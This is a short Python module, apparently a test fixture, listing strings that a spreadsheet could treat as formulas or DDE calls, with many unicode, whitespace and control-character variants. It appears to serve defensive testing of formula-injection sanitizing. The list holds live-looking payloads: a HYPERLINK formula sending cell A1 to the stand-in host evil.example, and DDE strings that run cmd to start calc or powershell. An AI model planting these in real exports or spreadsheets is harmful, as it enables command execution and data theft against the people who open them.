"""Texts that a spreadsheet, in one locale or another, would take for a formula or a DDE call."""

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|'x'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "\tplain", "\rplain", "\nplain", "=cmd|'/C powershell'!A1",
    '=DDE("cmd";"/C calc";"x")',
    "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "\N{MINUS SIGN}1", "  =1+1", "\u00a0=1+1", "\u3000＝1+1", '"=1+1',
    "'=1+1",
    ' "\' =1+1', "\ufeff=1+1", "\u200b=1+1", "\x00=1+1", "\x1b@SUM(1)", "\u2028=1+1", "\n\n  -1",
)  # fmt: skip
